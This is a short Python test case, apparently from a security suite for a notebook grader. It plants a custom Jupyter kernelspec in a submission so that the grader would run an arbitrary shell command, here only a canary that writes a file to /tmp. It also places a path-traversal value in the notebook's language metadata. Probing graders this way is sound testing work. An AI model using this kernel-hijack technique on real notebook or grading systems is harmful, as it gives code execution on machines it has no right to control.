"""Name a kernel of one's own, which comes with the submission and runs any command.

class: write
expect: graded
"""

import json

COMMAND = "echo attack-canary kernelspec > /tmp/attack-canary-kernel; exec sleep 5"


def tamper(nb, folder):
    nb.metadata["kernelspec"] = {"name": "mine", "display_name": "Mine", "language": "python"}
    nb.metadata["language_info"] = {"name": "bash", "file_extension": "/../../x", "version": "0"}
    spec = {"argv": ["sh", "-c", COMMAND, "{connection_file}"], "language": "python"}
    for place in ("kernels/mine", "share/jupyter/kernels/mine", ".jupyter/kernels/mine"):
        (folder / place).mkdir(parents=True)
        (folder / place / "kernel.json").write_text(json.dumps({**spec, "display_name": "Mine"}))
